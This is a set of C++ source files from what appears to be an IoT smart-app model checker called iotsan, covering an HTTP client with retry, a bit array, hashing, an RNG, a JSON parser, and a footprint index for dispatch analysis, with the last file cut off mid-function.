struct HttpResponse {
  int status = 0;
  std::string body;
};

struct HttpClientConfig {
  /// Budget for name resolution + TCP connect.
  int connect_timeout_ms = 5000;
  /// Inactivity budget per read: the whole response may take longer,
  /// but any single silent stretch past this fails the call.
  int read_timeout_ms = 30000;
  /// Hard cap on the response (headers + body).
  std::size_t max_response_bytes = std::size_t{64} << 20;
};

/// Transport failure.  `transient()` is true for errors a bounded retry
/// can plausibly cure: connection refused, connection reset / broken
/// pipe, timeouts, temporary resolver failure.  Malformed responses and
/// permanent resolver errors are not transient.
class HttpError : public Error {
 public:
  HttpError(const std::string& what, bool transient)
      : Error(what), transient_(transient) {}
  bool transient() const { return transient_; }

 private:
  bool transient_;
};

/// One-shot HTTP/1.1 request (Connection: close).  `headers` are extra
/// raw header lines without the CRLF ("If-Match: \"abc\"").  Throws
/// HttpError on transport failure.  A body (or POST/PUT method) sends
/// Content-Type: application/json with a Content-Length.
HttpResponse HttpCall(const std::string& host, int port,
                      const std::string& method, const std::string& path,
                      const std::string& body = "",
                      const std::vector<std::string>& headers = {},
                      const HttpClientConfig& config = {});

struct RetryPolicy {
  /// Total attempts including the first (1 = no retry).
  int max_attempts = 4;
  int base_delay_ms = 50;
  int max_delay_ms = 2000;
  /// Seed for the jitter PRNG; calls with the same seed draw the same
  /// delay sequence (tests pin this).
  std::uint64_t jitter_seed = 1;
};

/// Computes the backoff before retry attempt `attempt` (1-based: the
/// delay after the attempt-th failure): full jitter over an
/// exponentially growing window, `uniform(0, min(max_delay, base *
/// 2^(attempt-1)))`.  Exposed for tests.
int BackoffDelayMs(const RetryPolicy& policy, int attempt, Rng& rng);

/// Runs `call` up to `policy.max_attempts` times.  Only *transient*
/// HttpErrors are retried (with jittered exponential backoff); anything
/// else — including an HTTP error status, which `call` is free to turn
/// into a non-transient throw — propagates immediately.  `on_retry`
/// (optional) observes each scheduled retry: (attempt just failed,
/// delay_ms, error message).
HttpResponse HttpCallWithRetry(
    const RetryPolicy& policy, const std::function<HttpResponse()>& call,
    const std::function<void(int, int, const std::string&)>& on_retry = {});

}  // namespace iotsan::util
