#include "util/bitarray.hpp"

#include <atomic>
#include <bit>

#include "util/error.hpp"

namespace iotsan {

BitArray::BitArray(std::size_t bit_count) : bit_count_(bit_count) {
  if (bit_count == 0) throw Error("BitArray: bit_count must be > 0");
  words_.assign((bit_count + 63) / 64, 0);
}

namespace {

// atomic_ref over a const element needs C++26; these reads are logically
// const, so cast the qualifier away for the atomic load.
std::uint64_t LoadWord(const std::uint64_t& word) {
  return std::atomic_ref<std::uint64_t>(const_cast<std::uint64_t&>(word))
      .load(std::memory_order_relaxed);
}

}  // namespace

bool BitArray::Test(std::uint64_t index) const {
  const std::uint64_t i = index % bit_count_;
  return (LoadWord(words_[i >> 6]) >> (i & 63)) & 1ULL;
}

bool BitArray::TestAndSet(std::uint64_t index) {
  const std::uint64_t i = index % bit_count_;
  const std::uint64_t mask = 1ULL << (i & 63);
  const std::uint64_t before =
      std::atomic_ref<std::uint64_t>(words_[i >> 6])
          .fetch_or(mask, std::memory_order_relaxed);
  return (before & mask) != 0;
}

std::size_t BitArray::PopCount() const {
  std::size_t total = 0;
  for (const std::uint64_t& w : words_) total += std::popcount(LoadWord(w));
  return total;
}

void BitArray::Reset() {
  words_.assign(words_.size(), 0);
}

}  // namespace iotsan
