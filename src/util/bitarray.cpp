#include "util/bitarray.hpp"

#include <bit>

#include "util/error.hpp"

namespace iotsan {

BitArray::BitArray(std::size_t bit_count) : bit_count_(bit_count) {
  if (bit_count == 0) throw Error("BitArray: bit_count must be > 0");
  words_.assign((bit_count + 63) / 64, 0);
}

bool BitArray::Test(std::uint64_t index) const {
  const std::uint64_t i = index % bit_count_;
  return (words_[i >> 6] >> (i & 63)) & 1ULL;
}

bool BitArray::TestAndSet(std::uint64_t index) {
  const std::uint64_t i = index % bit_count_;
  std::uint64_t& word = words_[i >> 6];
  const std::uint64_t mask = 1ULL << (i & 63);
  const bool was_set = (word & mask) != 0;
  word |= mask;
  return was_set;
}

std::size_t BitArray::PopCount() const {
  std::size_t total = 0;
  for (std::uint64_t w : words_) total += std::popcount(w);
  return total;
}

void BitArray::Reset() {
  words_.assign(words_.size(), 0);
}

}  // namespace iotsan
