#include "util/rng.hpp"

#include "util/error.hpp"
#include "util/hash.hpp"

namespace iotsan {

std::uint64_t Rng::Next() {
  state_ += 0x9e3779b97f4a7c15ULL;
  return hash::SplitMix64(state_);
}

std::uint64_t Rng::NextBelow(std::uint64_t bound) {
  if (bound == 0) throw Error("Rng::NextBelow: bound must be > 0");
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t limit = ~0ULL - (~0ULL % bound);
  std::uint64_t x;
  do {
    x = Next();
  } while (x > limit);
  return x % bound;
}

std::int64_t Rng::NextInRange(std::int64_t lo, std::int64_t hi) {
  if (lo > hi) throw Error("Rng::NextInRange: lo > hi");
  const std::uint64_t span = static_cast<std::uint64_t>(hi - lo) + 1;
  return lo + static_cast<std::int64_t>(NextBelow(span));
}

double Rng::NextDouble() {
  return static_cast<double>(Next() >> 11) * 0x1.0p-53;
}

bool Rng::NextBool(double p) {
  return NextDouble() < p;
}

}  // namespace iotsan
