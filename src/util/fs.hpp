// Small filesystem helpers shared by the subsystems that persist JSON
// artifacts (result cache, deployment registry, access log).
//
// The atomic write is the tmp+rename idiom the result cache pioneered:
// readers never observe a half-written file, and failures degrade to a
// silent no-op (the caller's in-memory state stays authoritative).
#pragma once

#include <fstream>
#include <string>
#include <string_view>

namespace iotsan::util {

/// Writes `contents` to `path` atomically: the bytes land in a
/// same-directory temp file first, then rename into place.  The temp
/// name carries a thread-id suffix so concurrent writers (including
/// different processes sharing one directory) stay off each other's
/// temp files.  Returns false — after removing any partial temp file —
/// when the directory is unwritable or the write fails; never throws.
bool AtomicWriteFile(const std::string& path, std::string_view contents);

/// Whole-file read; returns "" for missing/unreadable files (callers
/// treat an empty read as "no entry").
std::string ReadFileOrEmpty(const std::string& path);

/// (Re)opens `out` for appending to `path`.  On failure the stream is
/// left closed and false is returned, so callers can keep their old
/// stream (the access-log rotation path) or degrade to dropping lines.
bool OpenAppend(std::ofstream& out, const std::string& path);

}  // namespace iotsan::util
