// Fixed-size dynamic bit array backing the BITSTATE hash store.
#pragma once

#include <cstddef>
#include <cstdint>
#include <vector>

namespace iotsan {

/// A flat array of bits with O(1) test/set.  Size is fixed at
/// construction; the checker sizes it from its memory budget, exactly
/// like Spin's -w flag sizes the bitstate field.
///
/// TestAndSet is lock-free and safe to call from multiple threads
/// concurrently (a relaxed fetch_or per probed word), which is what lets
/// parallel search workers share one bitstate store without a lock.
/// Reset is NOT safe against concurrent mutators.
class BitArray {
 public:
  /// Creates an all-zero array of `bit_count` bits (rounded up to a
  /// multiple of 64).  `bit_count` must be > 0.
  explicit BitArray(std::size_t bit_count);

  /// Number of addressable bits.
  std::size_t size() const { return bit_count_; }

  /// Returns the bit at `index % size()`.
  bool Test(std::uint64_t index) const;

  /// Atomically sets the bit at `index % size()`; returns its previous
  /// value.  Two threads racing on the same bit agree: exactly one of
  /// them observes "was clear".
  bool TestAndSet(std::uint64_t index);

  /// Number of set bits (linear scan; used for occupancy reporting).
  std::size_t PopCount() const;

  /// Clears all bits.  Not thread-safe.
  void Reset();

 private:
  std::size_t bit_count_;
  std::vector<std::uint64_t> words_;
};

}  // namespace iotsan
