// Error type shared across all iotsan modules.
//
// iotsan follows the C++ Core Guidelines convention of using exceptions
// for errors that cannot be handled locally (E.2).  All exceptions thrown
// by the library derive from iotsan::Error so callers can catch a single
// type at the API boundary.
#pragma once

#include <stdexcept>
#include <string>

namespace iotsan {

/// Base class of every exception thrown by the iotsan library.
class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

/// Thrown when input text (SmartScript, JSON, property expressions,
/// IFTTT applets) cannot be parsed.
class ParseError : public Error {
 public:
  using Error::Error;
};

/// Thrown when a structurally valid input is semantically inconsistent
/// (unknown capability, unbound input, type error, ...).
class SemanticError : public Error {
 public:
  using Error::Error;
};

/// Thrown when a model-checking run is configured inconsistently
/// (e.g. a property references a role no device carries).
class ConfigError : public Error {
 public:
  using Error::Error;
};

}  // namespace iotsan
