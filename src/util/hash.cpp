#include "util/hash.hpp"

#include <cstdio>
#include <cstring>

namespace iotsan::hash {

namespace {
constexpr std::uint64_t kFnvOffset = 0xcbf29ce484222325ULL;
constexpr std::uint64_t kFnvPrime = 0x100000001b3ULL;
}  // namespace

std::uint64_t Fnv1a64(std::span<const std::uint8_t> bytes) {
  std::uint64_t h = kFnvOffset;
  for (std::uint8_t b : bytes) {
    h ^= b;
    h *= kFnvPrime;
  }
  return h;
}

std::uint64_t Fnv1a64(std::string_view s) {
  std::uint64_t h = kFnvOffset;
  for (char c : s) {
    h ^= static_cast<std::uint8_t>(c);
    h *= kFnvPrime;
  }
  return h;
}

std::uint64_t SplitMix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

DoubleHash MakeDoubleHash(std::uint64_t base) {
  // h_i = h1 + i*h2, with h1/h2 derived from the base hash.  The |1 keeps
  // h2 odd so distinct i yield distinct positions even for small bases.
  return {SplitMix64(base), SplitMix64(base ^ 0xa5a5a5a5a5a5a5a5ULL) | 1ULL};
}

std::uint64_t NthHash(std::uint64_t base, unsigned i) {
  return MakeDoubleHash(base).Nth(i);
}

Fnv1a64Stream& Fnv1a64Stream::MixBytes(std::span<const std::uint8_t> bytes) {
  for (std::uint8_t b : bytes) {
    h_ ^= b;
    h_ *= kFnvPrime;
  }
  return *this;
}

Fnv1a64Stream& Fnv1a64Stream::Mix(std::string_view s) {
  Mix(static_cast<std::uint64_t>(s.size()));
  for (char c : s) {
    h_ ^= static_cast<std::uint8_t>(c);
    h_ *= kFnvPrime;
  }
  return *this;
}

Fnv1a64Stream& Fnv1a64Stream::Mix(std::uint64_t v) {
  for (int i = 0; i < 8; ++i) {
    h_ ^= static_cast<std::uint8_t>(v >> (8 * i));
    h_ *= kFnvPrime;
  }
  return *this;
}

Fnv1a64Stream& Fnv1a64Stream::Mix(double v) {
  if (v == 0.0) v = 0.0;  // collapse -0.0
  std::uint64_t bits;
  static_assert(sizeof(bits) == sizeof(v));
  std::memcpy(&bits, &v, sizeof(bits));
  return Mix(bits);
}

std::string Fnv1a64Stream::Hex() const {
  char buf[20];
  std::snprintf(buf, sizeof(buf), "%016llx",
                static_cast<unsigned long long>(h_));
  return buf;
}

}  // namespace iotsan::hash
