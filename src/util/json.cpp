#include "util/json.hpp"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>

#include "util/error.hpp"

namespace iotsan::json {

Value::Value(std::string s) : type_(Type::kString), string_(std::move(s)) {}
Value::Value(const char* s) : type_(Type::kString), string_(s) {}
Value::Value(Array a)
    : type_(Type::kArray), array_(std::make_shared<Array>(std::move(a))) {}
Value::Value(Object o)
    : type_(Type::kObject), object_(std::make_shared<Object>(std::move(o))) {}

void Value::CopyFrom(const Value& other) {
  type_ = other.type_;
  bool_ = other.bool_;
  number_ = other.number_;
  string_ = other.string_;
  // Deep copies preserve value semantics: mutating one copy must never
  // affect another.
  array_ = other.array_ ? std::make_shared<Array>(*other.array_) : nullptr;
  object_ = other.object_ ? std::make_shared<Object>(*other.object_) : nullptr;
}

Value::Value(const Value& other) { CopyFrom(other); }

Value::Value(Value&& other) noexcept = default;

Value& Value::operator=(const Value& other) {
  if (this != &other) CopyFrom(other);
  return *this;
}

Value& Value::operator=(Value&& other) noexcept = default;

namespace {
[[noreturn]] void TypeMismatch(const char* want, Type got) {
  static constexpr const char* kNames[] = {"null",   "bool",  "number",
                                           "string", "array", "object"};
  throw Error(std::string("JSON type mismatch: wanted ") + want + ", got " +
              kNames[static_cast<int>(got)]);
}
}  // namespace

bool Value::AsBool() const {
  if (type_ != Type::kBool) TypeMismatch("bool", type_);
  return bool_;
}

double Value::AsNumber() const {
  if (type_ != Type::kNumber) TypeMismatch("number", type_);
  return number_;
}

std::int64_t Value::AsInt() const {
  return static_cast<std::int64_t>(std::llround(AsNumber()));
}

const std::string& Value::AsString() const {
  if (type_ != Type::kString) TypeMismatch("string", type_);
  return string_;
}

const Array& Value::AsArray() const {
  if (type_ != Type::kArray) TypeMismatch("array", type_);
  return *array_;
}

const Object& Value::AsObject() const {
  if (type_ != Type::kObject) TypeMismatch("object", type_);
  return *object_;
}

Array& Value::MutableArray() {
  if (type_ != Type::kArray) TypeMismatch("array", type_);
  return *array_;
}

Object& Value::MutableObject() {
  if (type_ != Type::kObject) TypeMismatch("object", type_);
  return *object_;
}

const Value& Value::At(std::string_view key) const {
  const Object& obj = AsObject();
  auto it = obj.find(std::string(key));
  if (it == obj.end()) {
    throw Error("JSON object has no member '" + std::string(key) + "'");
  }
  return it->second;
}

bool Value::Has(std::string_view key) const {
  return type_ == Type::kObject &&
         object_->find(std::string(key)) != object_->end();
}

const Value& Value::GetOr(std::string_view key, const Value& fallback) const {
  if (!Has(key)) return fallback;
  return At(key);
}

std::string Value::GetString(std::string_view key,
                             std::string_view dflt) const {
  if (!Has(key)) return std::string(dflt);
  return At(key).AsString();
}

double Value::GetNumber(std::string_view key, double dflt) const {
  if (!Has(key)) return dflt;
  return At(key).AsNumber();
}

bool Value::GetBool(std::string_view key, bool dflt) const {
  if (!Has(key)) return dflt;
  return At(key).AsBool();
}

bool Value::operator==(const Value& other) const {
  if (type_ != other.type_) return false;
  switch (type_) {
    case Type::kNull:
      return true;
    case Type::kBool:
      return bool_ == other.bool_;
    case Type::kNumber:
      return number_ == other.number_;
    case Type::kString:
      return string_ == other.string_;
    case Type::kArray:
      return *array_ == *other.array_;
    case Type::kObject:
      return *object_ == *other.object_;
  }
  return false;
}

namespace {

void EscapeTo(std::string& out, const std::string& s) {
  out += '"';
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

void Newline(std::string& out, int indent, int depth) {
  if (indent <= 0) return;
  out += '\n';
  out.append(static_cast<std::size_t>(indent) * depth, ' ');
}

}  // namespace

void Value::DumpTo(std::string& out, int indent, int depth) const {
  switch (type_) {
    case Type::kNull:
      out += "null";
      break;
    case Type::kBool:
      out += bool_ ? "true" : "false";
      break;
    case Type::kNumber: {
      char buf[64];
      if (number_ == std::floor(number_) && std::abs(number_) < 1e15) {
        std::snprintf(buf, sizeof(buf), "%lld",
                      static_cast<long long>(number_));
      } else {
        std::snprintf(buf, sizeof(buf), "%.17g", number_);
      }
      out += buf;
      break;
    }
    case Type::kString:
      EscapeTo(out, string_);
      break;
    case Type::kArray: {
      out += '[';
      bool first = true;
      for (const Value& v : *array_) {
        if (!first) out += ',';
        first = false;
        Newline(out, indent, depth + 1);
        v.DumpTo(out, indent, depth + 1);
      }
      if (!array_->empty()) Newline(out, indent, depth);
      out += ']';
      break;
    }
    case Type::kObject: {
      out += '{';
      bool first = true;
      for (const auto& [key, v] : *object_) {
        if (!first) out += ',';
        first = false;
        Newline(out, indent, depth + 1);
        EscapeTo(out, key);
        out += indent > 0 ? ": " : ":";
        v.DumpTo(out, indent, depth + 1);
      }
      if (!object_->empty()) Newline(out, indent, depth);
      out += '}';
      break;
    }
  }
}

std::string Value::Dump(int indent) const {
  std::string out;
  DumpTo(out, indent, 0);
  return out;
}

namespace {

/// Hand-rolled recursive-descent JSON parser with position tracking.
class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  Value ParseDocument() {
    Value v = ParseValue();
    SkipWhitespace();
    if (pos_ != text_.size()) Fail("trailing content after JSON value");
    return v;
  }

 private:
  std::string_view text_;
  std::size_t pos_ = 0;

  [[noreturn]] void Fail(const std::string& message) {
    std::size_t line = 1, col = 1;
    for (std::size_t i = 0; i < pos_ && i < text_.size(); ++i) {
      if (text_[i] == '\n') {
        ++line;
        col = 1;
      } else {
        ++col;
      }
    }
    throw ParseError("JSON parse error at line " + std::to_string(line) +
                     ", column " + std::to_string(col) + ": " + message);
  }

  bool AtEnd() const { return pos_ >= text_.size(); }
  char Peek() const { return text_[pos_]; }

  void SkipWhitespace() {
    while (!AtEnd()) {
      char c = Peek();
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
        ++pos_;
      } else if (c == '/' && pos_ + 1 < text_.size() &&
                 text_[pos_ + 1] == '/') {
        while (!AtEnd() && Peek() != '\n') ++pos_;
      } else {
        break;
      }
    }
  }

  void Expect(char c) {
    if (AtEnd() || Peek() != c) {
      Fail(std::string("expected '") + c + "'");
    }
    ++pos_;
  }

  bool TryConsume(char c) {
    if (!AtEnd() && Peek() == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  Value ParseValue() {
    SkipWhitespace();
    if (AtEnd()) Fail("unexpected end of input");
    char c = Peek();
    switch (c) {
      case '{': return ParseObject();
      case '[': return ParseArray();
      case '"': return Value(ParseString());
      case 't': return ParseKeyword("true", Value(true));
      case 'f': return ParseKeyword("false", Value(false));
      case 'n': return ParseKeyword("null", Value(nullptr));
      default: return ParseNumber();
    }
  }

  Value ParseKeyword(std::string_view word, Value value) {
    if (text_.substr(pos_, word.size()) != word) {
      Fail("invalid literal");
    }
    pos_ += word.size();
    return value;
  }

  Value ParseNumber() {
    std::size_t start = pos_;
    if (TryConsume('-')) {
    }
    while (!AtEnd() && (std::isdigit(static_cast<unsigned char>(Peek())) ||
                        Peek() == '.' || Peek() == 'e' || Peek() == 'E' ||
                        Peek() == '+' || Peek() == '-')) {
      ++pos_;
    }
    if (pos_ == start) Fail("invalid number");
    const std::string token(text_.substr(start, pos_ - start));
    char* end = nullptr;
    const double v = std::strtod(token.c_str(), &end);
    if (end != token.c_str() + token.size()) Fail("invalid number");
    return Value(v);
  }

  std::string ParseString() {
    Expect('"');
    std::string out;
    while (true) {
      if (AtEnd()) Fail("unterminated string");
      char c = text_[pos_++];
      if (c == '"') break;
      if (c == '\\') {
        if (AtEnd()) Fail("unterminated escape");
        char e = text_[pos_++];
        switch (e) {
          case '"': out += '"'; break;
          case '\\': out += '\\'; break;
          case '/': out += '/'; break;
          case 'n': out += '\n'; break;
          case 't': out += '\t'; break;
          case 'r': out += '\r'; break;
          case 'b': out += '\b'; break;
          case 'f': out += '\f'; break;
          case 'u': {
            if (pos_ + 4 > text_.size()) Fail("bad \\u escape");
            unsigned code = 0;
            for (int i = 0; i < 4; ++i) {
              char h = text_[pos_++];
              code <<= 4;
              if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
              else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
              else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
              else Fail("bad \\u escape");
            }
            // Encode as UTF-8 (basic multilingual plane only).
            if (code < 0x80) {
              out += static_cast<char>(code);
            } else if (code < 0x800) {
              out += static_cast<char>(0xC0 | (code >> 6));
              out += static_cast<char>(0x80 | (code & 0x3F));
            } else {
              out += static_cast<char>(0xE0 | (code >> 12));
              out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
              out += static_cast<char>(0x80 | (code & 0x3F));
            }
            break;
          }
          default: Fail("unknown escape");
        }
      } else {
        out += c;
      }
    }
    return out;
  }

  Value ParseArray() {
    Expect('[');
    Array items;
    SkipWhitespace();
    if (TryConsume(']')) return Value(std::move(items));
    while (true) {
      items.push_back(ParseValue());
      SkipWhitespace();
      if (TryConsume(',')) {
        SkipWhitespace();
        if (TryConsume(']')) break;  // trailing comma extension
        continue;
      }
      Expect(']');
      break;
    }
    return Value(std::move(items));
  }

  Value ParseObject() {
    Expect('{');
    Object members;
    SkipWhitespace();
    if (TryConsume('}')) return Value(std::move(members));
    while (true) {
      SkipWhitespace();
      std::string key = ParseString();
      SkipWhitespace();
      Expect(':');
      members[std::move(key)] = ParseValue();
      SkipWhitespace();
      if (TryConsume(',')) {
        SkipWhitespace();
        if (TryConsume('}')) break;  // trailing comma extension
        continue;
      }
      Expect('}');
      break;
    }
    return Value(std::move(members));
  }
};

}  // namespace

Value Parse(std::string_view text) {
  return Parser(text).ParseDocument();
}

}  // namespace iotsan::json
