#include "model/footprint.hpp"

#include <algorithm>

#include "deps/handler_footprint.hpp"

namespace iotsan::model {

namespace {

/// Unions `src` into `dst`; true when `dst` changed (fixpoint driver).
bool Merge(DispatchFootprint& dst, const DispatchFootprint& src) {
  bool changed = dst.reads.UnionWith(src.reads);
  changed |= dst.writes.UnionWith(src.writes);
  if (src.unknown && !dst.unknown) {
    dst.unknown = true;
    changed = true;
  }
  if (src.visible && !dst.visible) {
    dst.visible = true;
    changed = true;
  }
  return changed;
}

}  // namespace

bool SlotSet::UnionWith(const SlotSet& other) {
  bool changed = false;
  const std::size_t n = std::min(words_.size(), other.words_.size());
  for (std::size_t i = 0; i < n; ++i) {
    const std::uint64_t merged = words_[i] | other.words_[i];
    changed |= merged != words_[i];
    words_[i] = merged;
  }
  return changed;
}

bool SlotSet::Intersects(const SlotSet& other) const {
  const std::size_t n = std::min(words_.size(), other.words_.size());
  for (std::size_t i = 0; i < n; ++i) {
    if (words_[i] & other.words_[i]) return true;
  }
  return false;
}

bool SlotSet::Empty() const {
  for (std::uint64_t word : words_) {
    if (word) return false;
  }
  return true;
}

int FootprintIndex::SlotOf(int device, int attribute) const {
  return device_slot_base_[static_cast<std::size_t>(device)] + attribute;
}

FootprintIndex::FootprintIndex(const SystemModel& model) : model_(model) {
  // --- Slot layout -------------------------------------------------------
  device_slot_base_.reserve(model.devices().size());
  for (const devices::Device& device : model.devices()) {
    device_slot_base_.push_back(slot_count_);
    slot_count_ += static_cast<int>(device.attributes().size());
  }
  mode_slot_ = slot_count_++;
  app_slot_base_ = slot_count_;
  slot_count_ += static_cast<int>(model.apps().size());
  timers_slot_ = slot_count_++;

  // --- Visible slots: what the selected invariants observe ---------------
  visible_slots_ = SlotSet(slot_count_);
  for (const props::Property& property : model.active_properties()) {
    if (property.kind != props::PropertyKind::kInvariant) continue;
    for (int d = 0; d < static_cast<int>(model.devices().size()); ++d) {
      const devices::Device& device = model.devices()[static_cast<std::size_t>(d)];
      bool carries_role = false;
      for (const std::string& role : property.roles) {
        if (device.HasRole(role)) {
          carries_role = true;
          break;
        }
      }
      if (!carries_role) continue;
      for (int a = 0; a < static_cast<int>(device.attributes().size()); ++a) {
        visible_slots_.Add(SlotOf(d, a));
      }
    }
    try {
      if (props::ReferencesMode(property.ParsedExpression())) {
        visible_slots_.Add(mode_slot_);
      }
    } catch (...) {
      visible_slots_.Add(mode_slot_);  // unparseable: stay conservative
    }
  }

  // --- Per-handler resolved footprints + trigger edges --------------------
  handler_fp_.resize(model.apps().size());
  handler_cone_.resize(model.apps().size());
  triggers_.resize(model.apps().size());
  for (int a = 0; a < static_cast<int>(model.apps().size()); ++a) {
    const InstalledApp& app = model.apps()[static_cast<std::size_t>(a)];
    const std::size_t n = app.analysis.handlers.size();
    handler_fp_[static_cast<std::size_t>(a)].resize(n);
    handler_cone_[static_cast<std::size_t>(a)].resize(n);
    triggers_[static_cast<std::size_t>(a)].resize(n);
    for (int h = 0; h < static_cast<int>(n); ++h) {
      ResolveHandler(a, h);
    }
  }

  // --- Trigger cones: fixpoint over the enqueue edges ---------------------
  for (std::size_t a = 0; a < handler_fp_.size(); ++a) {
    for (std::size_t h = 0; h < handler_fp_[a].size(); ++h) {
      handler_cone_[a][h] = handler_fp_[a][h];
    }
  }
  bool changed = true;
  while (changed) {
    changed = false;
    for (std::size_t a = 0; a < handler_cone_.size(); ++a) {
      for (std::size_t h = 0; h < handler_cone_[a].size(); ++h) {
        for (const auto& [ta, th] : triggers_[a][h]) {
          if (ta < 0) {
            if (!handler_cone_[a][h].unknown) {
              handler_cone_[a][h].unknown = true;
              changed = true;
            }
            continue;
          }
          changed |= Merge(handler_cone_[a][h],
                           handler_cone_[static_cast<std::size_t>(ta)]
                                        [static_cast<std::size_t>(th)]);
        }
      }
    }
  }

  // --- Event-identity dispatch tables -------------------------------------
  const DispatchFootprint blank{SlotSet(slot_count_), SlotSet(slot_count_)};
  empty_.direct = blank;
  empty_.cone = blank;
  mode_event_.direct = blank;
  mode_event_.cone = blank;

  auto merge_handler = [&](EventFootprints& ev, int app, int h) {
    if (h < 0) {
      ev.direct.unknown = ev.cone.unknown = true;
      return;
    }
    Merge(ev.direct, handler_fp_[static_cast<std::size_t>(app)]
                                [static_cast<std::size_t>(h)]);
    Merge(ev.cone, handler_cone_[static_cast<std::size_t>(app)]
                                [static_cast<std::size_t>(h)]);
  };

  for (const ResolvedSubscription& sub : model.subscriptions()) {
    const int h = HandlerIndexOf(sub.app, sub.handler);
    switch (sub.scope) {
      case ir::EventScope::kDevice: {
        auto [it, inserted] = device_events_.try_emplace(
            std::make_pair(sub.device, sub.attribute), EventFootprints{blank, blank});
        (void)inserted;
        merge_handler(it->second, sub.app, h);
        break;
      }
      case ir::EventScope::kLocationMode:
        merge_handler(mode_event_, sub.app, h);
        break;
      case ir::EventScope::kAppTouch: {
        auto [it, inserted] =
            touch_events_.try_emplace(sub.app, EventFootprints{blank, blank});
        (void)inserted;
        merge_handler(it->second, sub.app, h);
        break;
      }
      case ir::EventScope::kTime:
        break;
    }
  }
  for (int a = 0; a < static_cast<int>(model.apps().size()); ++a) {
    const InstalledApp& app = model.apps()[static_cast<std::size_t>(a)];
    for (int s = 0; s < static_cast<int>(app.analysis.schedules.size()); ++s) {
      auto [it, inserted] = timer_events_.try_emplace(std::make_pair(a, s),
                                                      EventFootprints{blank, blank});
      (void)inserted;
      merge_handler(
          it->second, a,
          HandlerIndexOf(
              a, app.analysis.schedules[static_cast<std::size_t>(s)].handler));
    }
  }
}

int FootprintIndex::HandlerIndexOf(int app, const std::string& name) const {
  const auto& handlers =
      model_.apps()[static_cast<std::size_t>(app)].analysis.handlers;
  for (int h = 0; h < static_cast<int>(handlers.size()); ++h) {
    if (handlers[static_cast<std::size_t>(h)].name == name) return h;
  }
  return -1;
}

void FootprintIndex::ResolveHandler(int app, int h) {
  const InstalledApp& installed = model_.apps()[static_cast<std::size_t>(app)];
  const ir::HandlerInfo& handler =
      installed.analysis.handlers[static_cast<std::size_t>(h)];
  const deps::PatternFootprint pattern = deps::FootprintOf(handler);
  const std::size_t a = static_cast<std::size_t>(app);

  DispatchFootprint fp{SlotSet(slot_count_), SlotSet(slot_count_)};
  fp.unknown = pattern.unknown;
  if (pattern.touches_app_state) {
    fp.reads.Add(app_slot_base_ + app);
    fp.writes.Add(app_slot_base_ + app);
  }
  if (pattern.creates_timer) {
    fp.reads.Add(timers_slot_);
    fp.writes.Add(timers_slot_);
  }

  // Resolves a kDevice pattern to its (device, attribute) slots.  Returns
  // false — unresolvable — when a named input is missing or non-device.
  auto resolve_devices = [&](const ir::EventPattern& p,
                             std::vector<std::pair<int, int>>& out) {
    if (p.input.empty()) {
      // sendEvent-style pattern: any device carrying the attribute.
      for (int d = 0; d < static_cast<int>(model_.devices().size()); ++d) {
        const int attr = model_.devices()[static_cast<std::size_t>(d)]
                             .AttributeIndex(p.attribute);
        if (attr >= 0) out.emplace_back(d, attr);
      }
      return true;
    }
    auto it = installed.bindings.find(p.input);
    if (it == installed.bindings.end()) return false;
    auto add_device = [&](const Value& v) {
      if (!v.is_device()) return false;
      const int d = v.DeviceIndex();
      const int attr = model_.devices()[static_cast<std::size_t>(d)]
                           .AttributeIndex(p.attribute);
      if (attr >= 0) out.emplace_back(d, attr);
      return true;
    };
    if (it->second.is_list()) {
      for (const Value& v : it->second.AsList()) {
        if (!add_device(v)) return false;
      }
      return true;
    }
    return add_device(it->second);
  };

  std::vector<std::pair<int, int>> slots;
  for (const ir::EventPattern& read : pattern.reads) {
    if (read.scope == ir::EventScope::kLocationMode) {
      fp.reads.Add(mode_slot_);
      continue;
    }
    slots.clear();
    if (!resolve_devices(read, slots)) {
      fp.unknown = true;
      continue;
    }
    for (const auto& [d, attr] : slots) fp.reads.Add(SlotOf(d, attr));
  }
  for (const ir::EventPattern& write : pattern.writes) {
    if (write.scope == ir::EventScope::kLocationMode) {
      fp.writes.Add(mode_slot_);
      // A mode change re-enters every mode subscriber.
      for (const ResolvedSubscription& sub : model_.subscriptions()) {
        if (sub.scope != ir::EventScope::kLocationMode) continue;
        triggers_[a][static_cast<std::size_t>(h)].emplace_back(
            sub.app, HandlerIndexOf(sub.app, sub.handler));
      }
      continue;
    }
    if (write.scope != ir::EventScope::kDevice) continue;
    slots.clear();
    if (!resolve_devices(write, slots)) {
      fp.unknown = true;
      continue;
    }
    for (const auto& [d, attr] : slots) {
      fp.writes.Add(SlotOf(d, attr));
      // The actuation (or synthetic event) enqueues a device event every
      // subscriber of (d, attr) will observe — a trigger edge.
      for (const ResolvedSubscription& sub : model_.subscriptions()) {
        if (sub.scope != ir::EventScope::kDevice || sub.device != d ||
            sub.attribute != attr) {
          continue;
        }
        triggers_[a][static_cast<std::size_t>(h)].emplace_back(
            sub.app, HandlerIndexOf(sub.app, sub.handler));
      }
    }
  }

  fp.visible = fp.writes.Intersects(visible_slots_);
  handler_fp_[a][static_cast<std::size_t>(h)] = fp;
}

const DispatchFootprint& FootprintIndex::DispatchFor(
    const devices::Event& event) const {
  switch (event.source) {
    case devices::EventSource::kDevice: {
      auto it = device_events_.find(std::make_pair(event.device, event.attribute));
